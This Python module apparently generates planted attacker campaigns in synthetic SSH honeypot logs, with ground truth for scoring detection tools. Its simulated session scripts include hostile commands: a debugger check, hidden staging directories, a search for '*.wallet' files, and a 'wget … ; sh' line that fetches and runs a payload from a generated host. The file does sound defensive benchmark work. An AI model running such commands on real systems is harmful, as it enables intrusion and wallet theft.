"""Planted campaigns: groups of sources that share something rare, listed as truth for detection to be scored on.

Six kinds take turns. Each member varies what it shares, so that no two members' sessions are the same:

- credentials: a list of rare pairs, of which each session tries some in an order of its own;
- commands: a rare sequence of commands, with a token of the member's and steps left out;
- payload: one URL and file, under common commands;
- client: a client version and hassh nobody else has, with common credentials;
- timing: common habits only, but all members come within the same ninety seconds, several times;
- infrastructure: one file from changing URLs of one host, after a few of the rare pairs of a list.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from random import Random
from typing import Any

from bench import shapes, vocabulary
from bench.lines import login
from bench.sampling import SECOND, address, digest_text
from bench.sessions import Script, Traffic
from bench.vocabulary import Client

KINDS = ("credentials", "commands", "payload", "client", "timing", "infrastructure")
WAVE_SECONDS = 90


@dataclass(frozen=True)
class Visit:
    """One session of a member."""

    moment: int
    campaign: "Campaign"
    member: str


@dataclass
class Campaign:
    """One group: who belongs to it and what they share."""

    name: str
    kind: str
    sources: tuple[str, ...]
    pairs: tuple[tuple[str, str], ...] = ()
    sequence: tuple[str, ...] = ()
    host: str = ""
    shasum: str = ""
    client: Client | None = None
    waves: tuple[int, ...] = ()
    visits: list[Visit] = field(default_factory=list)

    def truth(self) -> dict[str, Any]:
        """What truth.json says of it."""
        evidence: dict[str, Any] = {}
        if self.pairs:
            evidence["credentials"] = [list(pair) for pair in self.pairs]
        if self.sequence:
            evidence["commands"] = list(self.sequence)
        if self.shasum:
            evidence |= {"host": self.host, "shasum": self.shasum}
        if self.client:
            evidence |= {"client": self.client.version, "hassh": self.client.hassh}
        if self.waves:
            evidence |= {"waves": [moment / SECOND for moment in self.waves], "window_seconds": WAVE_SECONDS}
        return {"kind": self.kind, "sources": list(self.sources), "sessions": len(self.visits), "evidence": evidence}


def plan(seed: int, count: int, sessions: int, span: int) -> list[Campaign]:
    """`count` campaigns for a log of that many sessions over `span` µs, with their visits already timed."""
    budget = max(int(sessions * shapes.CAMPAIGN_SHARE) // max(count, 1), 6)
    return [_campaign(seed, index, budget, span) for index in range(count)]


def visits(campaigns: list[Campaign]) -> list[Visit]:
    """All visits in time order."""
    return sorted(
        (visit for campaign in campaigns for visit in campaign.visits),
        key=lambda visit: (visit.moment, visit.campaign.name, visit.member),
    )


def _campaign(seed: int, index: int, budget: int, span: int) -> Campaign:
    random = Random(f"{seed}/campaign/{index}")
    kind = KINDS[index % len(KINDS)]
    per_member = random.randint(*shapes.CAMPAIGN_SESSIONS_PER_MEMBER)
    members = max(3, min(random.randint(*shapes.CAMPAIGN_MEMBERS), budget // per_member))
    name = f"campaign-{index + 1:02}-{kind}"
    sources = tuple(dict.fromkeys(address(seed, f"member/{index}", member) for member in range(members)))
    campaign = Campaign(name, kind, sources)
    _share(campaign, random)
    campaign.visits = list(_schedule(campaign, random, per_member, span))
    return campaign


def _share(campaign: Campaign, random: Random) -> None:
    """Give a campaign what its members have in common."""
    token = f"{random.getrandbits(24):06x}"
    if campaign.kind in ("credentials", "infrastructure"):
        names = random.sample(vocabulary.USERNAMES, 4)
        campaign.pairs = tuple((random.choice(names), f"{random.choice(names)}-{token}{n:02}") for n in range(12))
    if campaign.kind == "commands":
        campaign.sequence = (
            "cat /proc/self/status | grep -i tracer",
            f"mkdir -p /var/tmp/.{token}",
            f"cd /var/tmp/.{token} && ls -a",
            "for p in /proc/[0-9]*; do readlink $p/exe; done | sort -u",
            f"echo {token} > /var/tmp/.{token}/.lock",
            "find / -name '*.wallet' -size -64k 2>/dev/null",
        )
    if campaign.kind in ("payload", "infrastructure"):
        campaign.host = address(random.getrandbits(31), "campaign-host", 0)
        campaign.shasum = digest_text("campaign", token)
    if campaign.kind == "client":
        campaign.client = vocabulary.offer(f"SSH-2.0-nimbus_{token[:2]}.{int(token[2:4], 16)}", random)


def _schedule(campaign: Campaign, random: Random, per_member: int, span: int) -> Iterator[Visit]:
    first, last = int(span * shapes.CAMPAIGN_FIRST), int(span * shapes.CAMPAIGN_LAST)
    if campaign.kind == "timing":
        campaign.waves = tuple(sorted(random.randint(first, last) for _ in range(max(per_member, 3))))
        for wave in campaign.waves:
            for member in campaign.sources:
                yield Visit(wave + random.randint(0, WAVE_SECONDS * SECOND), campaign, member)
        return
    begin = random.randint(first, (first + last) // 2)
    for member in campaign.sources:
        for _ in range(per_member):
            yield Visit(random.randint(begin, last), campaign, member)


def script(visit: Visit, traffic: Traffic, random: Random) -> Script:
    """What a member does in one session: the shared thing, varied, among common habits."""
    campaign = visit.campaign
    client = campaign.client or traffic.clients[sum(visit.member.encode()) % len(traffic.clients)]
    result = Script(hello=traffic.hello(client))
    common = random.randrange(12)
    if campaign.kind in ("client", "timing"):
        result.attempts = [traffic.failures[random.randrange(60)] for _ in range(random.randint(2, 6))]
        return result
    if campaign.pairs:
        some = random.sample(campaign.pairs, random.randint(len(campaign.pairs) // 2, len(campaign.pairs)))
        result.attempts = [login(name, password) for name, password in some]
    if campaign.kind == "credentials":
        return result
    result.attempts.append(traffic.successes[common])
    result.admitted = True
    result.commands = [(random.choice(vocabulary.RECONNAISSANCE[:10]), None) for _ in range(random.randint(1, 3))]
    if campaign.sequence:
        steps = [step for step in campaign.sequence if random.random() < 0.85]
        result.commands += [(step, None) for step in steps]
        result.commands.append((f"echo {digest_text(visit.member)[:8]} >> /tmp/.done", None))
    if campaign.shasum:
        name = "lamp.sh" if campaign.kind == "payload" else f"{digest_text(visit.member)[:6]}.bin"
        url = f"http://{campaign.host}/{name}"
        result.commands.append((f"cd /tmp; wget {url}; sh {name}", (url, campaign.shasum)))
    return result
